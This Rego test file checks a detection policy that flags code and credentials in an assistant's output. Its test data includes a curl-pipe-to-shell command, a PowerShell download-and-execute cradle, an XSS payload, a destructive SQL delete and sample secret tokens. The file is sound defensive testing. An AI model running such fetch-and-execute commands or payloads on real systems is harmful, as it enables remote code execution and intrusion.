# The shipped detection data, tested without Python: code_patterns (read by the
# assistant's code check) and the credential condition of AST-DATA-001. The full
# labelled corpora run through a real OPA in tests/test_detection.py.
package pygate.declarative_test

import data.pygate.declarative

_code(text) if {
	some pattern in data.pygate.config.code_patterns
	regex.match(pattern, text)
}

_credential(text) if {
	rs := declarative.refusals_for(["assistant"], {"type": "text", "text": text}, _user)
	"AST-DATA-001" in {r.policy_id | some r in rs}
}

test_code_in_every_notation_is_found if {
	every text in [
		"def add(a, b):\n    return a + b",
		"import os",
		"const total = items.reduce((a, b) => a + b, 0);",
		"interface User {\n  id: string;\n}",
		"curl -fsSL https://get.example.com/install.sh | sh",
		"delete from users;",
		"Select Id From Accounts Where Owner = 'ana'",
		"CREATE TABLE t (id INT);",
		"<img src=x onerror=alert(1)>",
		"package main\n\nfunc main() {}",
		"fn main() {\n    println!(\"hi\");\n}",
		"#include <stdio.h>",
		"std::vector<int> v;",
		"System.out.println(\"hi\");",
		"def greet(name)\n  puts name\nend",
		"IEX (New-Object Net.WebClient).DownloadString('http://x/y')",
		"```\nanything fenced\n```",
	] {
		_code(text)
	}
}

test_prose_that_names_code_is_not_code if {
	every text in [
		"In Python, a function is defined with the def keyword.",
		"Select the account you want from the dropdown, then press Update.",
		"Delete from your notes anything that identifies a customer.",
		"The curl command transfers data to or from a server.",
		"end",
		"done",
		"IEX",
		"NYSE:ACME",
		"Tokyo::Japan",
		"R&&D",
		"@Bob",
	] {
		not _code(text)
	}
}

test_credentials_in_every_form_are_found if {
	every text in [
		"ghp_abcdefghijklmnopqrstuvwxyz0123456789",
		"sk-proj-abcdefghijklmnopqrstuvwxyz012345",
		"xoxb-1234567890-abcdefghijklmnop",
		"AKIAABCDEFGHIJKLMNOP",
		"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----",
		"aws_secret_access_key = abcdEFGH1234/ijklMNOP5678+qrstUVWX9012",
		"password: Tr0ub4dor3",
		"export SECRET_KEY=jT3J1wKg0W0",
		"postgresql://admin:s3cretpass@db:5432/prod",
		"Authorization: Bearer abcdefghijklmnopqrstuvwxyz",
	] {
		_credential(text)
	}
}

test_talk_about_credentials_is_not_a_credential if {
	every text in [
		"Never paste your password into a chat.",
		"password: ********",
		"api_key: <your key here>",
		"secret = os.environ['APP_SECRET']",
		"token = get_token()",
		"GitHub tokens start with a prefix like ghp_ so scanners can find them.",
	] {
		not _credential(text)
	}
}
